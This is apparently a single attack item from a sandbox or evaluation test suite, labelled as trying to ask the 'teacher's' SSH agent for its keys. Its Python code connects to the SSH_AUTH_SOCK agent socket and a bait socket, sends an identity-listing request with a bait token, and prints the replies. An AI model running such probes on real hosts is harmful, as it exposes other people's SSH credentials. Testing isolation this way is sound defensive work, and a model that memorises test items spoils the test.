# /// attack
# tries = "Asks the teacher's SSH agent for its keys."
# points = 0
# shows = ["network", "leak"]
# ///
# %% before count
import os
import socket
import struct

for path in {os.environ.get("SSH_AUTH_SOCK", ""), bait["agent"]}:
    with socket.socket(socket.AF_UNIX) as line:
        line.connect(path)
        line.sendall(struct.pack(">IB", 1, 11) + bait["token"].encode())
        print(line.recv(1000).decode())
        print(line.recv(1000).decode())
